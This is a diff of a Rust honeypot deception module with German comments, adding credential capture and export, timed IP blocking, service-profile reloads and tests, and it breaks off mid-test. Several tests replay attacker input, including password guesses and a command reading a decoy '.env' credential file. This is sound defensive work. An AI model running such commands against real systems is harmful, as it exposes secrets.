@@ -1,13 +1,52 @@
-use crate::honeypots::{Honeypot, HoneypotType, HttpHoneypot, MysqlHoneypot, SshHoneypot};
+use crate::clock::{Clock, SystemClock};
+use crate::credentials::{CredentialExportFormat, CredentialStore};
+use crate::decoy::{DecoyProfile, DecoySeed};
+use crate::honeypots::{CloseReason, Honeypot, HoneypotContext, HoneypotRegistry, HoneypotType};
+use crate::interactions::ExitBehavior;
+use crate::intel::{IntelQuery, IntelReport, IntelStore};
+use crate::personality::{Personality, PersonalityRandomizer};
+use crate::service_definition::ServiceDefinition;
+use serde::Deserialize;
 use std::collections::HashMap;
+use std::net::IpAddr;
+use std::path::{Path, PathBuf};
 use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::Arc;
+use std::time::{Duration, Instant};
 use tokio::sync::RwLock;
 
+/// Standard-Blockdauer (1h)
+const DEFAULT_BLOCK_DURATION: Duration = Duration::from_secs(3600);
+
 /// Deception System - Verwaltet alle Honeypots
 pub struct DeceptionSystem {
-    honeypots: RwLock<HashMap<u16, Box<dyn Honeypot>>>,
+    /// Deployte Honeypots; Sessions klonen den `Arc` und halten den Lock nicht
+    honeypots: RwLock<HashMap<u16, Arc<dyn Honeypot>>>,
+    /// Factories für `deploy_honeypot`
+    registry: RwLock<HoneypotRegistry>,
     active_sessions: AtomicUsize,
-    blocked_ips: RwLock<std::collections::HashSet<std::net::IpAddr>>,
+    /// Blockierte IPs mit Ablaufzeitpunkt
+    blocked_ips: RwLock<HashMap<IpAddr, Instant>>,
+    block_duration: Duration,
+    clock: Arc<dyn Clock>,
+    /// Erfasste Credentials aller Handler
+    credentials: Arc<CredentialStore>,
+    /// Sessions, Commands und Angriffe für Intel-Abfragen
+    intel: Arc<IntelStore>,
+    /// Aus Dateien geladene Service-Definitionen (pro Port)
+    service_definitions: RwLock<HashMap<u16, Arc<ServiceDefinition>>>,
+    /// Verzeichnis der Service-Definitionen (für `reload_profiles`)
+    profile_dir: RwLock<Option<PathBuf>>,
+    /// Seed für pro Angreifer konsistente Decoys
+    decoy_seed: DecoySeed,
+    /// Banner/Header dieser Instanz (einmal beim Start ausgewürfelt)
+    personality: PersonalityRandomizer,
+    /// Honeypot für Verbindungen ohne eigenen Port (z.B. alle über den QUIC-Port)
+    default_port: Option<u16>,
+    /// Verhalten bei `exit`/`logout` in SSH/Telnet
+    exit_behavior: ExitBehavior,
+    /// Max. Engagement-Zeit pro SSH/Telnet-Session
+    max_engagement: Option<Duration>,
 }
 
 impl Default for DeceptionSystem {
@@ -19,23 +58,121 @@ impl Default for DeceptionSystem {
 impl DeceptionSystem {
     /// Neues Deception System
     pub fn new() -> Self {
+        let credentials = Arc::new(CredentialStore::new());
         Self {
             honeypots: RwLock::new(HashMap::new()),
+            registry: RwLock::new(HoneypotRegistry::new()),
             active_sessions: AtomicUsize::new(0),
-            blocked_ips: RwLock::new(std::collections::HashSet::new()),
+            blocked_ips: RwLock::new(HashMap::new()),
+            block_duration: DEFAULT_BLOCK_DURATION,
+            clock: Arc::new(SystemClock),
+            intel: Arc::new(IntelStore::new(credentials.clone())),
+            credentials,
+            service_definitions: RwLock::new(HashMap::new()),
+            profile_dir: RwLock::new(None),
+            decoy_seed: DecoySeed::random(),
+            personality: PersonalityRandomizer::random(),
+            default_port: None,
+            exit_behavior: ExitBehavior::default(),
+            max_engagement: None,
         }
     }
 
+    /// Mit Blockdauer
+    pub fn with_block_duration(mut self, duration: Duration) -> Self {
+        self.block_duration = duration;
+        self
+    }
+
+    /// Mit eigener Zeitquelle (z.B. `MockClock` in Tests)
+    pub fn with_clock(mut self, clock: Arc<dyn Clock>) -> Self {
+        self.clock = clock;
+        self
+    }
+
+    /// Mit festem Decoy-Seed (konsistente Decoys auch über Neustarts)
+    pub fn with_decoy_seed(mut self, seed: u64) -> Self {
+        self.decoy_seed = DecoySeed::new(seed);
+        self
+    }
+
+    /// Mit festem Persönlichkeits-Seed (gleiche Banner auch über Neustarts)
+    pub fn with_personality_seed(mut self, seed: u64) -> Self {
+        self.personality = PersonalityRandomizer::new(seed);
+        self
+    }
+
+    /// Mit Standard-Honeypot für Ports ohne eigenen Honeypot
+    pub fn with_default_port(mut self, port: u16) -> Self {
+        self.default_port = Some(port);
+        self
+    }
+
+    /// Mit Verhalten bei `exit`/`logout` (für danach deployte Honeypots)
+    pub fn with_exit_behavior(mut self, exit_behavior: ExitBehavior) -> Self {
+        self.exit_behavior = exit_behavior;
+        self
+    }
+
+    /// Mit max. Engagement-Zeit pro Session (für danach deployte Honeypots)
+    pub fn with_max_engagement(mut self, max_engagement: Duration) -> Self {
+        self.max_engagement = Some(max_engagement);
+        self
+    }
+
+    /// Mit eigenem Intel-Store (z.B. SQLite-Datei über `IntelStore::open`)
+    pub fn with_intel_store(mut self, intel: IntelStore) -> Self {
+        self.intel = Arc::new(intel);
+        self
+    }
+
+    /// Mit eigener Honeypot Registry
+    pub fn with_registry(mut self, registry: HoneypotRegistry) -> Self {
+        self.registry = RwLock::new(registry);
+        self
+    }
+
+    /// Factory für einen Honeypot-Typ registrieren
+    pub async fn register_honeypot<F>(&self, honeypot_type: HoneypotType, factory: F)
+    where
+        F: Fn(&HoneypotConfig, &HoneypotContext) -> Box<dyn Honeypot> + Send + Sync + 'static,
+    {
+        self.registry.write().await.register(honeypot_type, factory);
+    }
+
+    /// Geteilte Stores für die Honeypot-Factories
+    fn honeypot_context(&self) -> HoneypotContext {
+        HoneypotContext {
+            credentials: self.credentials.clone(),
+            intel: self.intel.clone(),
+            decoy_seed: self.decoy_seed,
+            personality: self.personality().clone(),
+            exit_behavior: self.exit_behavior,
+            max_engagement: self.max_engagement,
+            clock: self.clock.clone(),
+        }
+    }
+
+    /// Honeypot über die Registry erzeugen (noch nicht deployt)
+    async fn create_honeypot(
+        &self,
+        config: &HoneypotConfig,
+    ) -> Result<Arc<dyn Honeypot>, Box<dyn std::error::Error>> {
+        let honeypot = self
+            .registry
+            .read()
+            .await
+            .create(config, &self.honeypot_context())
+            .ok_or_else(|| format!("No honeypot registered for type {}", config.honeypot_type))?;
+        Ok(Arc::from(honeypot))
+    }
+
     /// Honeypot deployen
     pub async fn deploy_honeypot(
         &self,
         config: HoneypotConfig,
     ) -> Result<(), Box<dyn std::error::Error>> {
-        let honeypot: Box<dyn Honeypot> = match config.honeypot_type {
-            HoneypotType::Ssh => Box::new(SshHoneypot::new(config.port)),
-            HoneypotType::Http => Box::new(HttpHoneypot::new(config.port)),
-            HoneypotType::Mysql => Box::new(MysqlHoneypot::new(config.port)),
-        };
+        let honeypot = self.create_honeypot(&config).await?;
 
         tracing::info!(
             "🍯 Deploying {} honeypot on port {}",
@@ -49,11 +186,146 @@ impl DeceptionSystem {
         Ok(())
     }
 
+    /// Service deployen oder aktualisieren (idempotent, für Config-Reloads)
+    ///
+    /// Gleicher Typ auf dem Port: Honeypot bleibt, nur das Profil wird
+    /// ersetzt. Anderer Typ: alter Honeypot wird durch einen neuen ersetzt.
+    /// Prüfen und Tauschen laufen unter einem Write-Lock; schlägt das
+    /// Erzeugen fehl, bleiben alter Honeypot und alte Definition aktiv.
+    pub async fn deploy_or_update_honeypot(
+        &self,
+        definition: ServiceDefinition,
+    ) -> Result<DeployOutcome, Box<dyn std::error::Error>> {
+        let mut honeypots = self.honeypots.write().await;
+        let deployed = honeypots
+            .get(&definition.port)
+            .map(|honeypot| honeypot.service_type());
+
+        let outcome = match deployed {
+            Some(honeypot_type) if honeypot_type == definition.service_type => {
+                tracing::info!(
+                    "🔄 Updating {} honeypot profile on port {}",
+                    honeypot_type,
+                    definition.port
+                );
+                DeployOutcome::Updated
+            }
+            Some(honeypot_type) => {
+                let honeypot = self.create_honeypot(&definition.honeypot_config()).await?;
+                tracing::info!(
+                    "🔄 Replacing {} honeypot on port {} with {}",
+                    honeypot_type,
+                    definition.port,
+                    definition.service_type
+                );
+                honeypots.insert(definition.port, honeypot);
+                DeployOutcome::Replaced
+            }
+            None => {
+                let honeypot = self.create_honeypot(&definition.honeypot_config()).await?;
+                tracing::info!(
+                    "🍯 Deploying {} honeypot on port {}",
+                    definition.service_type,
+                    definition.port
+                );
+                honeypots.insert(definition.port, honeypot);
+                DeployOutcome::Deployed
+            }
+        };
+
+        self.service_definitions
+            .write()
+            .await
+            .insert(definition.port, Arc::new(definition));
+        Ok(outcome)
+    }
+
+    /// Alle Service-Definitionen (`*.toml`) aus einem Verzeichnis deployen
+    ///
+    /// Ungültige Dateien werden mit Warnung übersprungen und gezählt.
+    pub async fn deploy_from_dir(
+        &self,
+        path: impl AsRef<Path>,
+    ) -> Result<DirectoryDeployment, Box<dyn std::error::Error>> {
+        let path = path.as_ref();
+        let mut files = Vec::new();
+        let mut entries = tokio::fs::read_dir(path).await?;
+        while let Some(entry) = entries.next_entry().await? {
+            let file = entry.path();
+            if file.extension().is_some_and(|ext| ext == "toml") {
+                files.push(file);
+            }
+        }
+        files.sort();
+
+        let mut result = DirectoryDeployment::default();
+        for file in files {
+            let definition = match tokio::fs::read_to_string(&file).await {
+                Ok(content) => ServiceDefinition::parse(&content).map_err(|e| e.to_string()),
+                Err(e) => Err(e.to_string()),
+            };
+
+            match definition {
+                Ok(definition) => {
+                    self.deploy_or_update_honeypot(definition).await?;
+                    result.deployed += 1;
+                }
+                Err(e) => {
+                    tracing::warn!("⚠️ Skipping invalid service definition {:?}: {}", file, e);
+                    result.skipped += 1;
+                }
+            }
+        }
+
+        *self.profile_dir.write().await = Some(path.to_path_buf());
+
+        tracing::info!(
+            "🍯 Deployed {} honeypots from {:?} ({} skipped)",
+            result.deployed,
+            path,
+            result.skipped
+        );
+        Ok(result)
+    }
+
+    /// Profile erneut aus dem Verzeichnis von `deploy_from_dir` laden
+    ///
+    /// Neue Sessions erhalten die aktualisierten Definitionen, laufende
+    /// behalten ihren Snapshot. Bei ungültigen Dateien bleibt die bisherige
+    /// Definition aktiv.
+    pub async fn reload_profiles(
+        &self,
+    ) -> Result<DirectoryDeployment, Box<dyn std::error::Error>> {
+        let dir = self
+            .profile_dir
+            .read()
+            .await
+            .clone()
+            .ok_or("no profile directory loaded (use deploy_from_dir first)")?;
+
+        tracing::info!("🔄 Reloading profiles from {:?}", dir);
+        self.deploy_from_dir(dir).await
+    }
+
+    /// Aktuelles Profil (Snapshot) für einen Port
+    pub async fn service_definition(&self, port: u16) -> Option<Arc<ServiceDefinition>> {
+        self.service_definitions.read().await.get(&port).cloned()
+    }
+
+    /// Typ des Honeypots auf dem Port
+    pub async fn honeypot_type(&self, port: u16) -> Option<HoneypotType> {
+        self.honeypots
+            .read()
+            .await
+            .get(&port)
+            .map(|honeypot| honeypot.service_type())
+    }
+
     /// Connection verarbeiten
     pub async fn handle_connection(
         &self,
         connection: crate::Connection,
-        session: crate::Session,
+        mut session: crate::Session,
     ) -> Result<(), Box<dyn std::error::Error>> {
         self.active_sessions.fetch_add(1, Ordering::SeqCst);
 
@@ -63,33 +335,138 @@ impl DeceptionSystem {
             session.id
         );
 
-        // TODO: Honeypot auswählen basierend auf Ziel-Port
-        // Für jetzt: SSH als Default
-        let honeypots = self.honeypots.read().await;
-        if let Some(honeypot) = honeypots.get(&22) {
-            honeypot.handle(connection, session).await?;
-        }
+        // Honeypot anhand des Ziel-Ports auswählen, sonst Standard-Honeypot.
+        // Lock nur fürs Nachschlagen - Reloads dürfen laufende Sessions nicht abwarten.
+        let (dest_port, honeypot) = {
+            let honeypots = self.honeypots.read().await;
+            let dest_port = connection
+                .dest_port()
+                .filter(|port| honeypots.contains_key(port))
+                .or(self.default_port)
+                .or(connection.dest_port());
+            let honeypot = dest_port.and_then(|port| honeypots.get(&port).cloned());
+            (dest_port, honeypot)
+        };
+        let result = match dest_port {
+            Some(port) => match honeypot {
+                Some(honeypot) => {
+                    self.intel.record_session(
+                        session.peer_addr.ip(),
+                        &honeypot.service_type().to_string(),
+                    );
+                    session.profile = self.service_definition(port).await;
+                    honeypot.handle(connection.clone(), session).await
+                }
+                None => {
+                    tracing::warn!(
+                        "⚠️ No honeypot registered for port {} (Session: {})",
+                        port,
+                        session.id
+                    );
+                    Err(format!("No honeypot registered for port {}", port).into())
+                }
+            },
+            None => {
+                tracing::warn!(
+                    "⚠️ Unknown destination port for {} (Session: {})",
+                    session.peer_addr,
+                    session.id
+                );
+                Err(format!("Unknown destination port for {}", session.peer_addr).into())
+            }
+        };
+
+        // Box<dyn Error> ist nicht Send und darf nicht über await leben
+        let result = result.map_err(|e| e.to_string());
+        let reason = if result.is_ok() {
+            CloseReason::Normal
+        } else {
+            CloseReason::Error
+        };
+        connection.close_with(reason).await;
 
         self.active_sessions.fetch_sub(1, Ordering::SeqCst);
 
-        Ok(())
+        Ok(result?)
     }
 
-    /// IP blockieren
-    pub async fn block_ip(&self, ip: std::net::IpAddr) {
+    /// IP für die konfigurierte Blockdauer blockieren
+    pub async fn block_ip(&self, ip: IpAddr) {
+        let expires_at = self.clock.now() + self.block_duration;
         let mut blocked = self.blocked_ips.write().await;
-        blocked.insert(ip);
-        tracing::warn!("🚫 Blocked IP: {}", ip);
+        blocked.insert(ip, expires_at);
+        tracing::warn!("🚫 Blocked IP: {} for {:?}", ip, self.block_duration);
+    }
+
+    /// Ist die IP aktuell blockiert?
+    pub async fn is_blocked(&self, ip: IpAddr) -> bool {
+        let now = self.clock.now();
+        let blocked = self.blocked_ips.read().await;
+        blocked.get(&ip).is_some_and(|expires_at| *expires_at > now)
+    }
+
+    /// Abgelaufene Blocks entfernen
+    pub async fn purge_expired_blocks(&self) -> usize {
+        let now = self.clock.now();
+        let mut blocked = self.blocked_ips.write().await;
+        let before = blocked.len();
+        blocked.retain(|_, expires_at| *expires_at > now);
+        before - blocked.len()
+    }
+
+    /// Geteilter Credential Store (für Interaction Handler)
+    pub fn credential_store(&self) -> Arc<CredentialStore> {
+        self.credentials.clone()
+    }
+
+    /// Erfasste Credentials festhalten
+    pub fn record_credential(
+        &self,
+        source_ip: IpAddr,
+        service: &str,
+        username: &str,
+        password: &str,
+    ) {
+        self.credentials.record(source_ip, service, username, password);
+    }
+
+    /// Decoy-Details für eine Quell-IP (gleich bei jedem Reconnect)
+    pub fn decoy_profile(&self, source_ip: IpAddr) -> DecoyProfile {
+        self.decoy_seed.profile_for(source_ip)
+    }
+
+    /// Banner, Kernel und HTTP-Header dieser Instanz
+    pub fn personality(&self) -> &Personality {
+        self.personality.personality()
+    }
+
+    /// Geteilter Intel Store (für Interaction Handler)
+    pub fn intel_store(&self) -> Arc<IntelStore> {
+        self.intel.clone()
+    }
+
+    /// Intel-Report für IP und/oder Zeitraum
+    pub fn query_intel(&self, query: &IntelQuery) -> IntelReport {
+        self.intel.query(query)
+    }
+
+    /// Aggregierte Credentials als Intel-Feed exportieren
+    pub fn export_credentials(
+        &self,
+        format: CredentialExportFormat,
+    ) -> Result<String, Box<dyn std::error::Error>> {
+        self.credentials.export(format)
     }
 
     /// Report generieren
     pub async fn generate_report(&self) -> DeceptionReport {
         let honeypots = self.honeypots.read().await;
         let blocked = self.blocked_ips.read().await;
+        let now = self.clock.now();
 
         DeceptionReport {
             active_sessions: self.active_sessions.load(Ordering::SeqCst),
-            blocked_count: blocked.len(),
+            blocked_count: blocked.values().filter(|expires_at| **expires_at > now).count(),
             honeypot_count: honeypots.len(),
         }
     }
@@ -102,13 +479,33 @@ pub struct HoneypotConfig {
     pub interaction_level: InteractionLevel,
 }
 
-#[derive(Debug, Clone)]
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(rename_all = "lowercase")]
 pub enum InteractionLevel {
     Low,
+    #[default]
     Medium,
     High,
 }
 
+/// Ergebnis von `DeceptionSystem::deploy_or_update_honeypot`
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum DeployOutcome {
+    /// Port war frei
+    Deployed,
+    /// Gleicher Typ, nur Profil aktualisiert
+    Updated,
+    /// Anderer Typ, Honeypot ersetzt
+    Replaced,
+}
+
+/// Ergebnis von `DeceptionSystem::deploy_from_dir`
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct DirectoryDeployment {
+    pub deployed: usize,
+    pub skipped: usize,
+}
+
 #[derive(Debug)]
 pub struct DeceptionReport {
     pub active_sessions: usize,
@@ -125,3 +522,699 @@ impl DeceptionReport {
         self.blocked_count
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::clock::MockClock;
+    use crate::honeypots::test_session;
+
+    #[tokio::test]
+    async fn test_block_expires_after_duration() {
+        let clock = Arc::new(MockClock::new());
+        let system = DeceptionSystem::new()
+            .with_block_duration(Duration::from_secs(60))
+            .with_clock(clock.clone());
+        let ip: IpAddr = "10.0.0.1".parse().unwrap();
+
+        system.block_ip(ip).await;
+        assert!(system.is_blocked(ip).await);
+
+        clock.advance(Duration::from_secs(59));
+        assert!(system.is_blocked(ip).await);
+
+        clock.advance(Duration::from_secs(2));
+        assert!(!system.is_blocked(ip).await);
+        assert_eq!(system.generate_report().await.blocked_count(), 0);
+        assert_eq!(system.purge_expired_blocks().await, 1);
+    }
+
+    #[test]
+    fn test_export_credentials_aggregates_captures() {
+        let system = DeceptionSystem::new();
+        let attacker_a: IpAddr = "198.51.100.1".parse().unwrap();
+        let attacker_b: IpAddr = "198.51.100.2".parse().unwrap();
+
+        system.record_credential(attacker_a, "SSH", "root", "123456");
+        system.record_credential(attacker_b, "SSH", "root", "123456");
+        system.record_credential(attacker_a, "MySQL", "root", "123456");
+        system.record_credential(attacker_a, "HTTP", "admin", "pass,word");
+
+        let records = system.credential_store().records();
+        assert_eq!(records.len(), 2);
+        assert_eq!(records[0].username, "admin");
+        assert_eq!(records[0].count, 1);
+        assert_eq!(records[1].username, "root");
+        assert_eq!(records[1].count, 3);
+        assert_eq!(records[1].source_ips.len(), 2);
+        assert_eq!(records[1].services.len(), 2);
+        assert!(records[1].first_seen <= records[1].last_seen);
+
+        let csv = system.export_credentials(CredentialExportFormat::Csv).unwrap();
+        let lines: Vec<&str> = csv.lines().collect();
+        assert_eq!(lines.len(), 3);
+        assert!(lines[1].starts_with("admin,\"pass,word\",1,"));
+        assert!(lines[2].starts_with("root,123456,3,"));
+        assert!(lines[2].ends_with(",198.51.100.1;198.51.100.2,MySQL;SSH"));
+
+        let json = system.export_credentials(CredentialExportFormat::Json).unwrap();
+        let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
+        assert_eq!(parsed[1]["count"], 3);
+        assert_eq!(parsed[1]["password"], "123456");
+    }
+
+    #[tokio::test]
+    async fn test_deploy_via_registered_factory() {
+        use crate::honeypots::{Connection, Session};
+        use async_trait::async_trait;
+
+        struct TarpitHoneypot {
+            port: u16,
+        }
+
+        #[async_trait]
+        impl Honeypot for TarpitHoneypot {
+            async fn handle(
+                &self,
+                _connection: Connection,
+                _session: Session,
+            ) -> Result<(), Box<dyn std::error::Error>> {
+                Ok(())
+            }
+
+            fn port(&self) -> u16 {
+                self.port
+            }
+
+            fn service_type(&self) -> HoneypotType {
+                HoneypotType::Http
+            }
+        }
+
+        let config = |port| HoneypotConfig {
+            port,
+            honeypot_type: HoneypotType::Http,
+            interaction_level: InteractionLevel::Low,
+        };
+
+        let system = DeceptionSystem::new().with_registry(HoneypotRegistry::empty());
+        assert!(system.deploy_honeypot(config(8080)).await.is_err());
+
+        let created = Arc::new(AtomicUsize::new(0));
+        let counter = created.clone();
+        system
+            .register_honeypot(HoneypotType::Http, move |config, _| {
+                counter.fetch_add(1, Ordering::SeqCst);
+                Box::new(TarpitHoneypot { port: config.port })
+            })
+            .await;
+        system.deploy_honeypot(config(8080)).await.unwrap();
+
+        assert_eq!(created.load(Ordering::SeqCst), 1);
+        assert_eq!(system.honeypots.read().await[&8080].port(), 8080);
+        assert!(HoneypotRegistry::new().contains(HoneypotType::Snmp));
+    }
+
+    #[tokio::test]
+    async fn test_deploy_from_dir_skips_invalid_definitions() {
+        let dir = std::env::temp_dir().join(format!("honeytrap-services-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(
+            dir.join("ssh.toml"),
+            r#"
+            port = 2222
+            service_type = "ssh"
+            interaction_level = "high"
+            profile = "ubuntu-web"
+            banner = "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13"
+
+            [[filesystem]]
+            path = "/var/www/.env"
+            content = "DB_PASSWORD=hunter2"
+            "#,
+        )
+        .unwrap();
+        std::fs::write(
+            dir.join("mysql.toml"),
+            "port = 3306\nservice_type = \"mysql\"\n",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.join("broken.toml"),
+            "port = \"ssh\"\nservice_type = \"ftp\"\n",
+        )
+        .unwrap();
+        std::fs::write(dir.join("README.md"), "not a definition").unwrap();
+
+        let system = DeceptionSystem::new();
+        let result = system.deploy_from_dir(&dir).await.unwrap();
+        std::fs::remove_dir_all(&dir).unwrap();
+
+        assert_eq!(
+            result,
+            DirectoryDeployment {
+                deployed: 2,
+                skipped: 1
+            }
+        );
+        assert_eq!(system.generate_report().await.honeypot_count, 2);
+
+        let ssh = system.service_definition(2222).await.unwrap();
+        assert_eq!(ssh.service_type, HoneypotType::Ssh);
+        assert_eq!(ssh.profile.as_deref(), Some("ubuntu-web"));
+        assert!(ssh.banner.as_deref().unwrap().starts_with("SSH-2.0-OpenSSH_9.6"));
+        assert_eq!(ssh.filesystem[0].permissions, "-rw-r--r--");
+        assert!(system.service_definition(21).await.is_none());
+    }
+
+    #[tokio::test]
+    async fn test_deploy_or_update_keeps_same_type_replaces_other() {
+        use crate::interactions::SshInteractionHandler;
+
+        let definition = |service_type: &str, banner: &str| {
+            ServiceDefinition::parse(&format!(
+                "port = 2222\nservice_type = \"{}\"\nbanner = \"{}\"\n",
+                service_type, banner
+            ))
+            .unwrap()
+        };
+        let deployed_at = |honeypots: &HashMap<u16, Arc<dyn Honeypot>>| {
+            &*honeypots[&2222] as *const dyn Honeypot as *const ()
+        };
+        let banner = |profile: Arc<ServiceDefinition>| async move {
+            SshInteractionHandler::new("update".to_string())
+                .with_sleeper(Arc::new(crate::clock::RecordingSleeper::new()))
+                .with_profile(&profile)
+                .send_banner()
+                .await
+        };
+
+        let system = DeceptionSystem::new();
+        let outcome = system
+            .deploy_or_update_honeypot(definition("ssh", "SSH-2.0-OpenSSH_7.4"))
+            .await
+            .unwrap();
+        assert_eq!(outcome, DeployOutcome::Deployed);
+        let original = deployed_at(&*system.honeypots.read().await);
+
+        // Gleicher Typ: Instanz bleibt, neue Sessions sehen das neue Profil
+        let outcome = system
+            .deploy_or_update_honeypot(definition("ssh", "SSH-2.0-OpenSSH_9.6p1"))
+            .await
+            .unwrap();
+        assert_eq!(outcome, DeployOutcome::Updated);
+        assert_eq!(deployed_at(&*system.honeypots.read().await), original);
+        let profile = system.service_definition(2222).await.unwrap();
+        assert_eq!(banner(profile).await, "SSH-2.0-OpenSSH_9.6p1");
+
+        // Anderer Typ: Honeypot wird ersetzt
+        let outcome = system
+            .deploy_or_update_honeypot(definition("http", "Apache/2.4.41"))
+            .await
+            .unwrap();
+        assert_eq!(outcome, DeployOutcome::Replaced);
+        let honeypots = system.honeypots.read().await;
+        assert_eq!(honeypots.len(), 1);
+        assert_eq!(honeypots[&2222].service_type(), HoneypotType::Http);
+    }
+
+    #[tokio::test(start_paused = true)]
+    async fn test_service_definition_applies_to_live_sessions() {
+        use crate::honeypots::Connection;
+        use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
+
+        let system = Arc::new(DeceptionSystem::new());
+        let definition = ServiceDefinition::parse(
+            r#"
+            port = 2222
+            service_type = "ssh"
+            banner = "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13"
+            banner_delay = { base_ms = 1500.0 }
+            unknown_command = { mode = "permission_denied" }
+
+            [[filesystem]]
+            path = "/var/www/.env"
+            content = "DB_PASSWORD=hunter2"
+            "#,
+        )
+        .unwrap();
+        system.deploy_or_update_honeypot(definition).await.unwrap();
+
+        let peer_addr: std::net::SocketAddr = "198.51.100.46:40000".parse().unwrap();
+        let (client, server) = tokio::io::duplex(64 * 1024);
+        let connection = Connection::with_memory(peer_addr, server)
+            .with_local_addr(([10, 0, 0, 1], 2222).into());
+        let session = test_session("profile", peer_addr);
+
+        let started = tokio::time::Instant::now();
+        let live = system.clone();
+        let task =
+            tokio::spawn(async move { live.handle_connection(connection, session).await.is_ok() });
+
+        let (reader, mut writer) = tokio::io::split(client);
+        let mut reader = BufReader::new(reader);
+        let mut banner = String::new();
+        reader.read_line(&mut banner).await.unwrap();
+        assert_eq!(banner, "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n");
+        assert!(started.elapsed() >= Duration::from_millis(1500));
+
+        writer
+            .write_all(b"root\nroot\ncat /var/www/.env\nnmap\nexit\n")
+            .await
+            .unwrap();
+        let mut output = String::new();
+        while reader.read_line(&mut output).await.unwrap() > 0 {}
+        assert!(task.await.unwrap());
+
+        assert!(output.contains("DB_PASSWORD=hunter2"));
+        assert!(output.contains("-bash: nmap: Permission denied"));
+        let hostname = system.decoy_profile(peer_addr.ip()).hostname;
+        assert!(output.starts_with(&format!("{} login: ", hostname)));
+    }
+
+    #[tokio::test]
+    async fn test_failed_replace_keeps_previous_honeypot_and_definition() {
+        let definition = |service_type: &str| {
+            ServiceDefinition::parse(&format!(
+                "port = 2222\nservice_type = \"{}\"\nbanner = \"{}-banner\"\n",
+                service_type, service_type
+            ))
+            .unwrap()
+        };
+
+        let system = DeceptionSystem::new().with_registry(HoneypotRegistry::empty());
+        system
+            .register_honeypot(HoneypotType::Ssh, |config, _| {
+                Box::new(crate::SshHoneypot::new(config.port))
+            })
+            .await;
+        system.deploy_or_update_honeypot(definition("ssh")).await.unwrap();
+
+        // Kein HTTP-Factory: Ersetzen schlägt fehl, bevor etwas entfernt wird
+        assert!(system.deploy_or_update_honeypot(definition("http")).await.is_err());
+        assert_eq!(system.honeypot_type(2222).await, Some(HoneypotType::Ssh));
+        let profile = system.service_definition(2222).await.unwrap();
+        assert_eq!(profile.service_type, HoneypotType::Ssh);
+        assert_eq!(profile.banner.as_deref(), Some("ssh-banner"));
+    }
+
+    #[tokio::test]
+    async fn test_personality_seed_changes_served_banners() {
+        use crate::honeypots::Connection;
+        use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+        async fn serve(system: &DeceptionSystem, port: u16, input: &[u8]) -> String {
+            let peer_addr: std::net::SocketAddr = "198.51.100.85:40000".parse().unwrap();
+            let (mut client, server) = tokio::io::duplex(64 * 1024);
+            let connection = Connection::with_memory(peer_addr, server)
+                .with_local_addr(([10, 0, 0, 1], port).into());
+            let session = test_session(&format!("personality-{}", port), peer_addr);
+
+            client.write_all(input).await.unwrap();
+            client.shutdown().await.unwrap();
+            system.handle_connection(connection, session).await.unwrap();
+            let mut output = String::new();
+            client.read_to_string(&mut output).await.unwrap();
+            output
+        }
+
+        let mut served = Vec::new();
+        for seed in [1, 2] {
+            let system = DeceptionSystem::new().with_personality_seed(seed);
+            for (port, honeypot_type) in [(22, HoneypotType::Ssh), (80, HoneypotType::Http)] {
+                system
+                    .deploy_honeypot(HoneypotConfig {
+                        port,
+                        honeypot_type,
+                        interaction_level: InteractionLevel::Medium,
+                    })
+                    .await
+                    .unwrap();
+            }
+
+            let ssh = serve(&system, 22, b"").await;
+            let http = serve(&system, 80, b"GET /missing HTTP/1.1\r\nHost: a\r\n\r\n").await;
+            let personality = system.personality();
+            assert!(ssh.starts_with(&format!("{}\r\n", personality.ssh_banner)));
+            assert!(http.starts_with("HTTP/1.1 404"));
+            assert!(http.contains(&format!("Server: {}\r\n", personality.http_server)));
+            served.push(ssh.lines().next().unwrap().to_string());
+        }
+        assert_ne!(served[0], served[1]);
+    }
+
+    #[tokio::test(start_paused = true)]
+    async fn test_exit_behavior_applies_to_live_ssh_sessions() {
+        use crate::honeypots::Connection;
+        use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+        let system = DeceptionSystem::new().with_exit_behavior(ExitBehavior::Relogin);
+        system
+            .deploy_honeypot(HoneypotConfig {
+                port: 22,
+                honeypot_type: HoneypotType::Ssh,
+                interaction_level: InteractionLevel::Medium,
+            })
+            .await
+            .unwrap();
+
+        let peer_addr: std::net::SocketAddr = "198.51.100.58:40000".parse().unwrap();
+        let (mut client, server) = tokio::io::duplex(64 * 1024);
+        let connection = Connection::with_memory(peer_addr, server)
+            .with_local_addr(([10, 0, 0, 1], 22).into());
+        let session = test_session("relogin", peer_addr);
+
+        client
+            .write_all(b"admin\nadmin123\nexit\nroot\ntoor\nwhoami\n")
+            .await
+            .unwrap();
+        client.shutdown().await.unwrap();
+        system.handle_connection(connection, session).await.unwrap();
+        let mut output = String::new();
+        client.read_to_string(&mut output).await.unwrap();
+
+        let hostname = system.decoy_profile(peer_addr.ip()).hostname;
+        assert_eq!(output.matches(&format!("{} login: ", hostname)).count(), 2);
+        assert!(output.contains("logout\n"));
+        assert!(output.ends_with(&format!("root\nroot@{}:/root# ", hostname)));
+        assert_eq!(system.credential_store().records().len(), 2);
+    }
+
+    #[tokio::test(start_paused = true)]
+    async fn test_max_engagement_closes_live_ssh_session() {
+        use crate::honeypots::{Connection, Session};
+        use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+        let system = DeceptionSystem::new()
+            .with_clock(Arc::new(crate::clock::TokioClock))
+            .with_max_engagement(Duration::from_secs(5));
+        system
+            .deploy_honeypot(HoneypotConfig {
+                port: 22,
+                honeypot_type: HoneypotType::Ssh,
+                interaction_level: InteractionLevel::Medium,
+            })
+            .await
+            .unwrap();
+
+        let peer_addr: std::net::SocketAddr = "198.51.100.59:40000".parse().unwrap();
+        let (mut client, server) = tokio::io::duplex(64 * 1024);
